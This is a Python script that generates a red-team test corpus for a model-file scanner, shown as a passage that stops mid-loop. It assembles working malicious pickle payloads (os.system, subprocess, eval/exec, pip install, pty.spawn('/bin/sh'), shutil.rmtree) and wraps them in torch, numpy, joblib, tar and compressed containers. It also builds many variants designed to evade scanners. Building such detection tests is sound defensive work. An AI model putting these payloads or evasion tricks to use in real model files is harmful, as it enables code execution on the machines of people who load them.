#!/usr/bin/python3
"""Red-team corpus for model-scan (issue 13), with CPython's own pickletools as the oracle.

Run with Debian's python3 (python3-torch, -sklearn, -numpy, -pandas, -joblib, -h5py):

    /usr/bin/python3 test/model-scan/redteam/generate.py

Writes test/model-scan/redteam/corpus/{malicious,benign}/... and manifest.json. Deterministic: the same
inputs give the same bytes (fixed seeds, fixed zip/tar/gzip timestamps, one BLAS thread), except the six
legacy-format torch files, whose storage keys torch itself writes as memory addresses. Nothing is ever unpickled: the
malicious streams are assembled opcode by opcode, benign ones are written by the real producers
(pickle.dumps, joblib.dump, torch.save, np.save, DataFrame.to_pickle), and every label comes from walking the
streams with pickletools.genops (a parser, it executes nothing) the way the loader reads them.

Each manifest entry: file, kind (malicious|benign), cause (the root cause of the issue the file exercises),
globals (what the loader imports, per genops; for EXT opcodes the name copyreg's registry maps the code to),
and optionally `expand` (the test inserts `count` copies of `fill` at byte `at`, adding `count` to the
little-endian length field at `len_at` of size `len_size` if given; used for the files past 1 MiB so the
committed corpus stays small).
"""
import bz2
import gzip
import hashlib
import io
import json
import lzma
import os
import pickle
import pickletools
import random
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

# One BLAS thread: multi-threaded reductions make fitted floats (NMF) differ from run to run.
for _v in ('OMP_NUM_THREADS', 'OPENBLAS_NUM_THREADS', 'MKL_NUM_THREADS'):
    os.environ[_v] = '1'

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'corpus')
MANIFEST = []
NAMES = set()
# Causes whose files are dangerous without a pickle import (unverifiable bytes, Keras Lambda, chat templates).
NONPICKLE = {'unverifiable-model-file', 'malformed-format', 'keras-config', 'template-ssti'}


# --------------------------------------------------------------------------------------------------------
# Labelling: a symbolic stack machine over pickletools.genops (strings, memo and STACK_GLOBAL tracked)
# --------------------------------------------------------------------------------------------------------
STRING_OPS = {'STRING', 'BINSTRING', 'SHORT_BINSTRING', 'UNICODE', 'BINUNICODE', 'SHORT_BINUNICODE', 'BINUNICODE8'}
MARK = object()


def imports_of(data, ext=None, multi=False):
    """Globals a loader imports reading `data` from offset 0 (and, if multi, every pickle after the first).

    Returns (globals, end offset, error or None). On an invalid opcode the globals seen before it are
    kept: CPython has already imported (and maybe called) them when it raises."""
    ext = ext or {}
    out, pos, err = [], 0, None
    while True:
        stack, memo = [], {}
        try:
            stopped = False
            for op, arg, p in pickletools.genops(io.BytesIO(data[pos:])):
                name = op.name
                if name in STRING_OPS:
                    stack.append(arg if isinstance(arg, str) else None)
                elif name == 'GLOBAL' or name == 'INST':
                    m, n = arg.split(' ', 1)
                    out.append(m + '.' + n)
                    if name == 'INST':
                        while stack and stack.pop() is not MARK:
                            pass
                    stack.append(None)
                elif name == 'STACK_GLOBAL':
                    n, m = stack.pop(), stack.pop()
                    out.append(f'{m}.{n}' if isinstance(m, str) and isinstance(n, str) else '?.?')
                    stack.append(None)
                elif name in ('EXT1', 'EXT2', 'EXT4'):
                    out.append(ext.get(arg, f'ext:{arg}'))
                    stack.append(None)
                elif name in ('PUT', 'BINPUT', 'LONG_BINPUT'):
                    memo[arg] = stack[-1] if stack else None
                elif name == 'MEMOIZE':
                    memo[len(memo)] = stack[-1] if stack else None
                elif name in ('GET', 'BINGET', 'LONG_BINGET'):
                    stack.append(memo.get(arg))
                elif name == 'MARK':
                    stack.append(MARK)
                elif name == 'DUP':
                    stack.append(stack[-1] if stack else None)
                elif name == 'STOP':
                    pos += p + 1
                    stopped = True
                    break
                else:
                    before = op.stack_before
                    if pickletools.markobject in before:
                        while stack and stack.pop() is not MARK:
                            pass
                        before = before[: before.index(pickletools.markobject)]
                    for _ in before:
                        if stack:
                            stack.pop()
                    for _ in op.stack_after:
                        stack.append(None)
            if not stopped:
                return out, pos, 'no STOP'
        except Exception as e:  # noqa: BLE001 - genops raises ValueError on the first invalid opcode
            err = str(e)[:80]
            return out, pos, err
        if not multi or pos >= len(data):
            return out, pos, None


def uniq(xs):
    seen, out = set(), []
    for x in xs:
        if x not in seen:
            seen.add(x)
            out.append(x)
    return out


def write(rel, data):
    path = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(data)


def mal(rel, data, cause, streams=None, expect=None, ext=None, note=None, expand=None, multi=False):
    """Writes a malicious file. `streams` are the byte streams the loader unpickles (default: the file);
    the label is the union of their genops imports, which must include every name in `expect`."""
    assert rel not in NAMES, rel
    NAMES.add(rel)
    streams = [data] if streams is None else streams
    got = []
    for s in streams:
        g, _, _ = imports_of(s, ext, multi)
        got += g
    got = uniq(got)
    for e in expect or []:
        assert e in got, (rel, e, got)
    assert got or cause in NONPICKLE, (rel, 'genops found no import')
    write('malicious/' + rel, data)
    entry = {'file': 'malicious/' + rel, 'kind': 'malicious', 'cause': cause, 'globals': got}
    if note:
        entry['note'] = note
    if expand:
        entry['expand'] = expand
    MANIFEST.append(entry)


def ben(rel, data, cause, expand=None):
    assert rel not in NAMES, rel
    NAMES.add(rel)
    write('benign/' + rel, data)
    entry = {'file': 'benign/' + rel, 'kind': 'benign', 'cause': cause}
    if expand:
        entry['expand'] = expand
    MANIFEST.append(entry)


# --------------------------------------------------------------------------------------------------------
# An opcode assembler
# --------------------------------------------------------------------------------------------------------
def PROTO(n):
    return b'\x80' + bytes([n])


def s_(kind, s):
    """Pushes the str `s` with one of the seven opcodes that make a str in Python 3."""
    b = s.encode('utf-8')
    if kind == 'U':
        return b'U' + bytes([len(b)]) + b
    if kind == 'T':
        return b'T' + struct.pack('<I', len(b)) + b
    if kind == 'S':
        return b"S'" + b + b"'\n"
    if kind == 'V':
        return b'V' + b + b'\n'
    if kind == 'X':
        return b'X' + struct.pack('<I', len(b)) + b
    if kind == 'c8c':
        return b'\x8c' + bytes([len(b)]) + b
    if kind == 'c8d':
        return b'\x8d' + struct.pack('<Q', len(b)) + b
    raise ValueError(kind)


STR_KINDS = ['U', 'T', 'S', 'V', 'X', 'c8c', 'c8d']


def by(b):
    """Pushes bytes (BINBYTES)."""
    return (b'C' + bytes([len(b)]) + b) if len(b) < 256 else (b'B' + struct.pack('<I', len(b)) + b)


def frame(body):
    return b'\x95' + struct.pack('<Q', len(body)) + body


def GLOBAL(m, n):
    return b'c' + m.encode() + b'\n' + n.encode() + b'\n'


def SGLOBAL(m, n, km='c8c', kn='c8c'):
    return s_(km, m) + s_(kn, n) + b'\x93'


def tup(*items, proto=2):
    """A tuple of already-assembled pushes."""
    if proto >= 2 and len(items) == 1:
        return items[0] + b'\x85'
    if proto >= 2 and len(items) == 2:
        return items[0] + items[1] + b'\x86'
    if proto >= 1 and not items:
        return b')'
    return b'(' + b''.join(items) + b't'


def text(s, proto):
    return s_('S' if proto < 1 else ('U' if proto < 3 else 'c8c' if proto >= 4 else 'X'), s)


def call(g, args, proto):
    """g(*args) with REDUCE."""
    return g + tup(*[text(a, proto) if isinstance(a, str) else a for a in args], proto=proto) + b'R'


def head(proto):
    return PROTO(proto) if proto >= 2 else b''


# Dangerous callables (module, name, argument), all loadable by CPython's find_class.
TARGETS = [
    ('os', 'system', 'echo pwned'),
    ('posix', 'system', 'echo pwned'),
    ('nt', 'system', 'echo pwned'),
    ('subprocess', 'check_output', 'id'),
    ('subprocess', 'Popen', 'id'),
    ('subprocess', 'getoutput', 'id'),
    ('builtins', 'eval', "__import__('os').system('echo pwned')"),
    ('builtins', 'exec', "import os; os.system('echo pwned')"),
    ('runpy', 'run_path', '/tmp/evil.py'),
    ('pkgutil', 'resolve_name', 'os:system'),
    ('pip', 'main', 'install evil'),
    ('cProfile', 'run', "import os; os.system('echo pwned')"),
    ('timeit', 'timeit', "import os; os.system('echo pwned')"),
    ('pty', 'spawn', '/bin/sh'),
    ('torch.utils.collect_env', 'run', 'echo pwned'),
    ('webbrowser', 'open', 'http://127.0.0.1/'),
    ('shutil', 'rmtree', '/tmp/victim'),
    ('importlib', 'import_module', 'antigravity'),
    ('ctypes', 'CDLL', 'libevil.so'),
    ('code', 'interact', 'x'),
]
PY2 = [('__builtin__', 'eval', "__import__('os').system('echo pwned')"), ('commands', 'getoutput', 'id')]


def simple(proto=0, t=TARGETS[0]):
    m, n, a = t
    return head(proto) + call(GLOBAL(m, n), [a], proto) + b'.'


EVIL0 = b"cos\nsystem\n(S'echo pwned'\ntR."  # the classic protocol-0 payload
EVIL0_BODY = EVIL0[:-1]


# --------------------------------------------------------------------------------------------------------
# 1. Every way a pickle reaches a callable
# --------------------------------------------------------------------------------------------------------
def reach_variants(proto, t):
    """(name, bytes, expected globals) for one protocol and target: each way CPython resolves and calls."""
    m, n, a = t
    H = head(proto)
    A = text(a, proto)
    full = f'{m}.{n}'
    v = []
    v.append(('global-reduce', H + call(GLOBAL(m, n), [a], proto) + b'.', [full]))
    v.append(('inst', H + b'(' + A + b'i' + m.encode() + b'\n' + n.encode() + b'\n.', [full]))
    if proto >= 1:
        v.append(('obj', H + b'(' + GLOBAL(m, n) + A + b'o.', [full]))
    for km in STR_KINDS:
        kn = STR_KINDS[(STR_KINDS.index(km) + proto + 1) % len(STR_KINDS)]
        v.append((f'stack-global-{km}-{kn}', H + SGLOBAL(m, n, km, kn) + tup(A, proto=proto) + b'R.', [full]))
    # strings from the memo: every PUT with every GET
    puts = [('put', lambda i: b'p' + str(i).encode() + b'\n'), ('binput', lambda i: b'q' + bytes([i])),
            ('long-binput', lambda i: b'r' + struct.pack('<I', i))]
    gets = [('get', lambda i: b'g' + str(i).encode() + b'\n'), ('binget', lambda i: b'h' + bytes([i])),
            ('long-binget', lambda i: b'j' + struct.pack('<I', i))]
    for pn, put in puts:
        for gn, get in gets:
            body = s_('c8c', m) + put(1) + b'0' + s_('c8c', n) + put(2) + b'0' + get(1) + get(2) + b'\x93'
            v.append((f'memo-{pn}-{gn}', H + body + tup(A, proto=proto) + b'R.', [full]))
    body = s_('c8c', m) + b'\x94' + b'0' + s_('c8c', n) + b'\x94' + b'0' + b'h\x00h\x01\x93'
    v.append(('memo-memoize', H + body + tup(A, proto=proto) + b'R.', [full]))
    # across FRAMEs: module, name and the call each in its own frame
    parts = [s_('c8c', m), s_('c8c', n), b'\x93' + tup(A, proto=proto) + b'R.']
    framed = H + b''.join(b'\x95' + struct.pack('<Q', len(p)) + p for p in parts[:-1]) + parts[-1]
    v.append(('frames', framed, [full]))
    # NEWOBJ / NEWOBJ_EX building a functools.partial that is then called
    P = GLOBAL('functools', 'partial')
    v.append(('newobj-partial', H + P + tup(GLOBAL(m, n), A, proto=3) + b'\x81' + b')R.', ['functools.partial', full]))
    v.append(('newobj-ex-partial', H + P + tup(GLOBAL(m, n), A, proto=3) + b'}' + b'\x92' + b')R.',
              ['functools.partial', full]))
    # BUILD -> partial.__setstate__ swaps the function in after construction
    state = b'(' + GLOBAL(m, n) + tup(A, proto=3) + b'}N' + b't'
    v.append(('build-setstate', H + P + tup(GLOBAL('builtins', 'print'), proto=3) + b'\x81' + state + b'b)R.',
              ['functools.partial', 'builtins.print', full]))
    # EXT1/2/4 after registering the code with copyreg.add_extension
    for opn, code, enc in (('ext1', 7, b'\x82\x07'), ('ext2', 0x1234, b'\x83' + struct.pack('<H', 0x1234)),
                           ('ext4', 0x123456, b'\x84' + struct.pack('<I', 0x123456))):
        reg = call(GLOBAL('copyreg', 'add_extension'), [m, n, b'J' + struct.pack('<i', code)], max(proto, 2)) + b'0'
        v.append((opn, H + reg + enc + tup(A, proto=proto) + b'R.', ['copyreg.add_extension', full], {code: full}))
    # getattr / attrgetter / methodcaller / partial chains on an imported module
    IMP = call(GLOBAL('builtins', '__import__'), [m], proto)
    v.append(('getattr', H + call(GLOBAL('builtins', 'getattr'), [IMP, text(n, proto)], proto) + tup(A, proto=proto) + b'R.',
              ['builtins.getattr', 'builtins.__import__']))
    v.append(('attrgetter', H + call(call(GLOBAL('operator', 'attrgetter'), [n], proto), [IMP], proto)
              + tup(A, proto=proto) + b'R.', ['operator.attrgetter', 'builtins.__import__']))
    v.append(('methodcaller', H + call(call(GLOBAL('_operator', 'methodcaller'), [n, a], proto), [IMP], proto) + b'.',
              ['_operator.methodcaller', 'builtins.__import__']))
    v.append(('partial-chain', H + call(call(GLOBAL('_functools', 'partial'), [GLOBAL(m, n), A], proto), [], proto) + b'.',
              ['_functools.partial', full]))
    v.append(('resolve-name', H + call(call(GLOBAL('pkgutil', 'resolve_name'), [f'{m}:{n}'], proto), [a], proto) + b'.',
              ['pkgutil.resolve_name']))
    if proto >= 4:
        # protocol 4 resolves dotted names attribute by attribute (posixpath imports os)
        v.append(('dotted-name', H + SGLOBAL('posixpath', f'os.{n}') + tup(A, proto=proto) + b'R.', [f'posixpath.os.{n}']))
    return v


def nested_variants(inner, proto=2):
    """Outer pickles that unpickle embedded bytes with another loader."""
    H = head(proto)
    bio = call(GLOBAL('io', 'BytesIO'), [by(inner)], max(proto, 3))
    return [
        ('pickle-loads', H + call(GLOBAL('pickle', 'loads'), [by(inner)], max(proto, 3)) + b'.', ['pickle.loads']),
        ('c-pickle-loads', H + call(GLOBAL('_pickle', 'loads'), [by(inner)], max(proto, 3)) + b'.', ['_pickle.loads']),
        ('pickle-load-bytesio', H + call(GLOBAL('pickle', 'load'), [bio], max(proto, 3)) + b'.', ['pickle.load', 'io.BytesIO']),
        ('torch-load', H + call(GLOBAL('torch', 'load'), [bio], max(proto, 3)) + b'.', ['torch.load', 'io.BytesIO']),
        ('numpy-load', H + call(GLOBAL('numpy', 'load'), [bio, b'N', b'\x88'], max(proto, 3)) + b'.', ['numpy.load', 'io.BytesIO']),
        ('pandas-read-pickle', H + call(GLOBAL('pandas', 'read_pickle'), [bio], max(proto, 3)) + b'.', ['pandas.read_pickle']),
    ]


def npy(payload, header="{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", version=1):
    hb = header.encode('latin-1' if version < 3 else 'utf-8')
    pre = 10 if version == 1 else 12
    pad = (64 - (pre + len(hb) + 1) % 64) % 64
    hb = hb + b' ' * pad + b'\n'
    size = struct.pack('<H', len(hb)) if version == 1 else struct.pack('<I', len(hb))
    return b'\x93NUMPY' + bytes([version, 0]) + size + hb + payload


def zipped(members, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w') as z:
        for name, data, *meth in members:
            zi = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            zi.compress_type = meth[0] if meth else method
            z.writestr(zi, data)
    return b.getvalue()


def tarred(members, fmt=tarfile.GNU_FORMAT):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode='w', format=fmt) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime = len(data), 0
            t.addfile(ti, io.BytesIO(data))
    return b.getvalue()


def torch_zip(folder, pkl, deflate=False, order='first', dup=None):
    rec = [(f'{folder}/data.pkl', pkl, zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED),
           (f'{folder}/byteorder', b'little'), (f'{folder}/data/0', b'\x00' * 16), (f'{folder}/version', b'3\n')]
    if order == 'last':
        rec = rec[1:] + rec[:1]
    elif order == 'middle':
        rec = rec[1:3] + rec[:1] + rec[3:]
    if dup is not None:
        rec.append((f'{folder}/data.pkl', dup))
    return zipped(rec)


def gz(b):
    return gzip.compress(b, mtime=0)


def lz4_frames(chunks):
    """One LZ4 frame per chunk, concatenated (joblib and pandas read every frame)."""
    import lz4.frame
    return b''.join(lz4.frame.compress(c) for c in chunks)


def zstd_frames(chunks, skippable=False):
    """Zstandard frames written by hand (single segment, one raw block each), optionally after a skippable frame."""
    out = b''
    if skippable:
        out += struct.pack('<II', 0x184D2A50, 8) + b'skipme!!'
    for c in chunks:
        out += struct.pack('<I', 0xFD2FB528)
        out += (b'\x20' + bytes([len(c)])) if len(c) < 256 else (b'\x60' + struct.pack('<H', len(c) - 256))
        out += struct.pack('<I', (len(c) << 3) | 1)[:3] + c  # last block, raw
    return out


def lz4_joblib(b):
    import lz4.frame
    return lz4.frame.compress(b)


def main():
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    random.seed(13)
    import numpy as np

    # ---- 1. reach the callable, every protocol, rotating targets --------------------------------------
    for proto in range(6):
        for i, t in enumerate(TARGETS):
            for item in reach_variants(proto, t):
                name, data, exp = item[:3]
                ext = item[3] if len(item) > 3 else None
                # keep every way for the first four targets, one way in three for the rest (still every way)
                if i >= 4 and (hash_i(name) + i) % 3:
                    continue
                mal(f'reach/p{proto}/{t[0]}.{t[1]}/{name}.pkl', data, 'reach-callable', expect=exp, ext=ext)
        for t in PY2:
            if proto < 3:
                mal(f'reach/p{proto}/py2-{t[0]}.{t[1]}.pkl', simple(proto, t), 'reach-callable', expect=[f'{t[0]}.{t[1]}'])
    # nested loaders of embedded malicious bytes
    inner = simple(2)
    inner_npy = npy(simple(3))
    for proto in (2, 3, 4, 5):
        for (name, data, exp), (_, data_npy, _) in zip(nested_variants(inner, proto), nested_variants(inner_npy, proto)):
            payload = inner
            if name == 'numpy-load':
                data, payload = data_npy, simple(3)
            mal(f'nested/p{proto}/{name}.pkl', data, 'nested-loads', streams=[data, payload], expect=exp + ['os.system'])

    # ---- 2. every first opcode, with and without memo, dangerous part past 64 B / 4 KiB / 1 MiB ----------
    firsts = {
        'proto2': b'\x80\x02', 'proto5': b'\x80\x05', 'frame': b'\x95' + struct.pack('<Q', 3) + b'N0N',
        'mark': b'(', 'empty-tuple': b')', 'empty-list': b']', 'empty-dict': b'}', 'empty-set': b'\x8f', 'none': b'N',
        'true': b'\x88', 'false': b'\x89', 'int': b'I1\n', 'int-true': b'I01\n', 'int-false': b'I00\n',
        'int-plus': b'I+1\n', 'int-space': b'I 1\n', 'int-underscore': b'I1_0\n', 'int-hex': b'I0x10\n',
        'int-neg': b'I-7\n', 'long-plus': b'L+1L\n', 'long': b'L12345678901234567890L\n', 'long-noL': b'L7\n',
        'binint': b'J\x01\x00\x00\x00', 'binint1': b'K\x01', 'binint2': b'M\x01\x00', 'long1': b'\x8a\x01\x01',
        'long4': b'\x8b\x01\x00\x00\x00\x01', 'float': b'F1.5\n', 'float-inf': b'Finf\n', 'binfloat': b'G' + struct.pack('>d', 1.5),
        'string': b"S'x'\n", 'string-dq': b'S"x"\n', 'binstring': b'T\x01\x00\x00\x00x', 'short-binstring': b'U\x01x',
        'unicode': b'Vx\n', 'binunicode': b'X\x01\x00\x00\x00x', 'short-binunicode': b'\x8c\x01x',
        'binunicode8': b'\x8d\x01' + b'\x00' * 7 + b'x', 'binbytes': b'B\x01\x00\x00\x00x', 'short-binbytes': b'C\x01x',
        'binbytes8': b'\x8e\x01' + b'\x00' * 7 + b'x', 'bytearray8': b'\x96\x01' + b'\x00' * 7 + b'x',
        'global': b'cbuiltins\nint\n',
    }
    memos = {'': b'', 'put': b'p0\n', 'binput': b'q\x00', 'long-binput': b'r\x00\x00\x00\x00', 'memoize': b'\x94'}
    bodies = {
        'global': EVIL0_BODY,
        'stack-global': s_('c8c', 'os') + s_('c8c', 'system') + b'\x93' + s_('c8c', 'echo pwned') + b'\x85R',
        'inst': b"(S'echo pwned'\nios\nsystem\n",
    }
    for fn, first in firsts.items():
        for mn, mo in memos.items():
            if fn in ('proto2', 'proto5') and mn:
                continue
            if fn == 'mark':
                pre = first + b'N' + mo + b't0'
            elif fn in ('proto2', 'proto5'):
                pre = first
            else:
                pre = first + mo + b'0'
            for bn, body in bodies.items():
                if mn and bn == 'inst':
                    continue
                data = pre + body + b'.'
                # pickletools reads INT with int(x), CPython's loader with int(x, 0): label the hex form by its body
                mal(f'first-opcode/{fn}{"-" + mn if mn else ""}-{bn}.pkl', data, 'detection-first-opcode',
                    streams=[body + b'.'] if fn == 'int-hex' else None, expect=['os.system'])
    # every first opcode again, with the payload past 4 KiB and (expanded by the test) past 1 MiB
    for fn, first in firsts.items():
        pre = first + (b'N' + b't0' if fn == 'mark' else b'' if fn in ('proto2', 'proto5') else b'0')
        lab = [EVIL0] if fn == 'int-hex' else None
        mal(f'first-opcode-far/{fn}-4KiB.pkl', pre + b"S'" + b'A' * 4100 + b"'\n0" + EVIL0, 'detection-padding',
            streams=lab, expect=['os.system'])
        mal(f'first-opcode-far/{fn}-1MiB.pkl', pre + b"S'" + b'A' * 16 + b"'\n0" + EVIL0, 'detection-padding',
            streams=lab, expect=['os.system'], expand={'at': len(pre) + 2, 'count': (1 << 20) + 3, 'fill': 'A'})
    # padding: a string popped before the payload, past 64 B, 4 KiB; 1 MiB variants are expanded by the test
    for pad in (65, 70, 200, 4097, 5000):
        for kind in ('S', 'V', 'X', 'c8d', 'T', 'B'):
            filler = 'A' * pad
            push = by(filler.encode()) if kind == 'B' else s_(kind, filler)
            for hn, h in (('nohdr', b''), ('proto2', PROTO(2)), ('proto4', PROTO(4))):
                mal(f'padding/{kind}-{pad}-{hn}.pkl', h + push + b'0' + EVIL0, 'detection-padding', expect=['os.system'])
    for kind, at_len in (('S', None), ('V', None), ('X', (1, 4)), ('c8d', (1, 8))):
        filler = 'A' * 16
        push = s_(kind, filler)
        at = {'S': 2, 'V': 1, 'X': 5, 'c8d': 9}[kind]
        exp = {'at': at, 'count': (1 << 20) + 17, 'fill': 'A'}
        if at_len:
            exp.update(len_at=at_len[0], len_size=at_len[1])
        for hn, h in (('nohdr', b''), ('proto4', PROTO(4))):
            e = dict(exp, at=exp['at'] + len(h))
            if 'len_at' in e:
                e['len_at'] += len(h)
            mal(f'padding/{kind}-1MiB-{hn}.pkl', h + push + b'0' + EVIL0, 'detection-padding', expect=['os.system'], expand=e)
    # a framed protocol-4 stream whose payload sits in a late frame past 4 KiB
    big = b'\x95' + struct.pack('<Q', 5002) + b'\x8d' + struct.pack('<Q', 4992) + b'B' * 4992 + b'0'
    pay = SGLOBAL('os', 'system') + s_('c8c', 'echo') + b'\x85R.'
    mal('padding/frames-4KiB.pkl', PROTO(4) + big + b'\x95' + struct.pack('<Q', len(pay)) + pay, 'detection-padding',
        expect=['os.system'])
    # the examples of the issue, verbatim
    mal('issue/padded-70.pkl', b"S'" + b'A' * 70 + b"'\n0" + EVIL0, 'detection-padding', expect=['os.system'])
    mal('issue/no-proto-binary.pkl', SGLOBAL('os', 'system') + s_('X', 'id') + b'\x85R.', 'detection-first-opcode',
        expect=['os.system'])
    mal('issue/frame-first.pkl', frame(SGLOBAL('os', 'system') + s_('c8c', 'id') + b'\x85R.'),
        'detection-first-opcode', expect=['os.system'])
    for tag, first in (('I+1', b'I+1\n'), ('I 1', b'I 1\n'), ('I1_0', b'I1_0\n'), ('L+1L', b'L+1L\n')):
        mal(f'issue/int-{tag.replace(" ", "space").replace("+", "plus")}.pkl', first + b'0' + EVIL0,
            'protocol0-int-forms', expect=['os.system'])

    # ---- 3. containers ---------------------------------------------------------------------------------
    payloads = {
        'p0': EVIL0,
        'p2': simple(2),
        'p4-stack': PROTO(4) + SGLOBAL('subprocess', 'Popen') + s_('c8c', 'id') + b'\x85R.',
        'nohdr-stack': SGLOBAL('builtins', 'exec') + s_('X', 'import os') + b'\x85R.',
        'frame-first': frame(SGLOBAL('os', 'system') + s_('c8c', 'id') + b'\x85R.'),
        'int-plus': b'I+1\n0' + EVIL0,
        'padded': b"S'" + b'A' * 100 + b"'\n0" + EVIL0,
    }
    benign_pkl = pickle.dumps({'weight': [1.0, 2.0]}, protocol=2)
    for pn, p in payloads.items():
        for folder in ('archive', 'model', 'x', 'checkpoint-1000', 'a.b', 'données', 'very_long_' + 'f' * 60):
            for deflate in (False, True):
                for order in ('first', 'middle', 'last'):
                    if folder not in ('archive', 'x') and order != 'first':
                        continue
                    nm = f'torch-zip/{pn}/{folder}-{"deflate" if deflate else "stored"}-{order}.pt'
                    mal(nm, torch_zip(folder, p, deflate, order), 'container-torch-zip', streams=[p])
        mal(f'torch-zip/{pn}/dup-second.pt', torch_zip('archive', benign_pkl, dup=p), 'container-torch-zip-duplicate', streams=[p])
        mal(f'torch-zip/{pn}/dup-first.pt', torch_zip('archive', p, dup=benign_pkl), 'container-torch-zip-duplicate', streams=[p])
        for ext in ('.pt', '.pth', '.bin', '.ckpt', '.zip', '.model', ''):
            mal(f'torch-zip/{pn}/ext{ext or "-none"}', torch_zip('archive', p, True), 'container-torch-zip', streams=[p])
        # legacy torch: magic, protocol, sys_info, main pickle, storage keys
        magic = pickle.dumps(0x1950a86a20f9469cfc6c, protocol=2)
        proto_ = pickle.dumps(1001, protocol=2)
        sysinfo = pickle.dumps({'protocol_version': 1001, 'little_endian': True,
                                'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, protocol=2)
        keys = pickle.dumps([], protocol=2)
        mal(f'legacy/{pn}-main.pt', magic + proto_ + sysinfo + p + keys, 'container-legacy-torch', streams=[p])
        mal(f'legacy/{pn}-sysinfo.pt', magic + proto_ + p + benign_pkl + keys, 'container-legacy-torch', streams=[p])
        mal(f'legacy/{pn}-keys.pt', magic + proto_ + sysinfo + benign_pkl + p, 'container-legacy-torch', streams=[p])
        # legacy torch tar: the second storage record's pickle follows the raw bytes of the first
        rec = pickle.dumps(('0', 'cpu', 'x'), protocol=2).replace(b'X\x01\x00\x00\x00x', b'ctorch\nFloatStorage\n')
        storages = pickle.dumps(2, protocol=2) + rec + struct.pack('<q', 2) + b'\x00' * 8 + p
        mal(f'legacy-tar/{pn}-storage-record.tar', tarred([('sys_info', sysinfo), ('pickle', benign_pkl),
                                                            ('tensors', pickle.dumps(0, protocol=2)), ('storages', storages)]),
            'container-legacy-torch-tar', streams=[p])
        mal(f'legacy-tar/{pn}-pickle.tar', tarred([('sys_info', sysinfo), ('pickle', p), ('tensors', pickle.dumps(0, protocol=2)),
                                                     ('storages', pickle.dumps(0, protocol=2))]), 'container-legacy-torch-tar', streams=[p])
        # tar and tar.gz of a pickle
        for tn, fmt in (('gnu', tarfile.GNU_FORMAT), ('pax', tarfile.PAX_FORMAT), ('ustar', tarfile.USTAR_FORMAT)):
            mal(f'tar/{pn}-{tn}.tar', tarred([('model/weights.pkl', p)], fmt), 'container-tar', streams=[p])
            mal(f'tar/{pn}-{tn}-noext.tar', tarred([('model/weights', p)], fmt), 'container-tar', streams=[p])
        mal(f'tar/{pn}.tar.gz', gz(tarred([('model.pkl', p)])), 'container-tar', streams=[p])
        # compression wrappers, each as joblib and pandas read them
        wr = {
            'zlib': zlib.compress(p), 'gzip': gz(p), 'bz2': bz2.compress(p),
            'lzma': lzma.compress(p, format=lzma.FORMAT_ALONE), 'xz': lzma.compress(p, format=lzma.FORMAT_XZ),
            'lz4': lz4_joblib(p), 'lz4-two-frames': lz4_frames([p[:len(p) // 2], p[len(p) // 2:]]),
            'zstd': zstd_frames([p]), 'zstd-two-frames': zstd_frames([p[:len(p) // 2], p[len(p) // 2:]]),
            'zstd-skippable': zstd_frames([p], skippable=True),
            'joblib-zf': b'ZF' + ('0x%x' % len(p)).encode().ljust(19) + zlib.compress(p),
            'gzip-twice': gz(gz(p)), 'gzip-multimember': gz(p[:10]) + gz(p[10:]),
        }
        for wn, w in wr.items():
            for ext in ('.joblib', '.pkl', '.gz' if 'gzip' in wn else '.bin'):
                mal(f'compressed/{pn}-{wn}{ext}', w, 'container-compression', streams=[p])
    # numpy: object arrays under every header spelling numpy's literal_eval accepts
    headers = {
        'standard': "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
        'double-quotes': '{"descr": "|O", "fortran_order": False, "shape": (1,)}',
        'plain-O': "{'descr': 'O', 'fortran_order': False, 'shape': (1,), }",
        'object': "{'descr': 'object', 'fortran_order': False, 'shape': (1,), }",
        'O8': "{'descr': 'O8', 'fortran_order': False, 'shape': (1,), }",
        'escape-x4f': "{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }",
        'escape-u': "{'descr': '\\u007cO', 'fortran_order': False, 'shape': (1,), }",
        'concat': "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,), }",
        'key-order': "{'shape': (1,), 'fortran_order': False, 'descr': '|O'}",
        'spaces': "{ 'descr' :'|O' ,'fortran_order':False,'shape':( 1 , ) }",
        'fortran': "{'descr': '|O', 'fortran_order': True, 'shape': (1,), }",
        'scalar-shape': "{'descr': '|O', 'fortran_order': False, 'shape': (), }",
        '2d': "{'descr': '|O', 'fortran_order': False, 'shape': (1, 1), }",
        'structured': "{'descr': [('a', '<i8'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }",
        'structured-nested': "{'descr': [('a', [('x', '|O')])], 'fortran_order': False, 'shape': (1,), }",
        'structured-subarray': "{'descr': [('a', '|O', (2,))], 'fortran_order': False, 'shape': (1,), }",
        'structured-title': "{'descr': [(('title', 'a'), '|O')], 'fortran_order': False, 'shape': (1,), }",
        'bytes-key': "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
    }
    from numpy.lib import format as npf
    for hn, h in headers.items():
        for ver in (1, 2, 3):
            blob = npy(b'', h, ver)
            f = io.BytesIO(blob)
            npf.read_magic(f)
            shape, fo, dt = npf._read_array_header(f, (ver, 0))  # parses the header only
            assert dt.hasobject, hn
            for pn in ('p2', 'p0', 'nohdr-stack'):
                p = payloads[pn]
                data = npy(p, h, ver)
                mal(f'numpy/{hn}-v{ver}-{pn}.npy', data, 'numpy-header-literal', streams=[p])
                if ver == 1:
                    mal(f'numpy/{hn}-{pn}.npz', zipped([('arr_0.npy', data, zipfile.ZIP_DEFLATED)]),
                        'numpy-header-literal', streams=[p])
    # joblib: the array-wrapper's "array bytes" read as opcodes by plain pickle.load, and wrapper lookalikes
    import joblib
    # joblib.dump itself writing an object whose __reduce__ names a dangerous callable (dumping runs nothing)
    class Evil:
        def __reduce__(self):
            return (os.system, ('echo pwned',))

    for comp in (None, 'zlib', 'gzip', 'bz2', 'lzma', 'xz', 'lz4'):
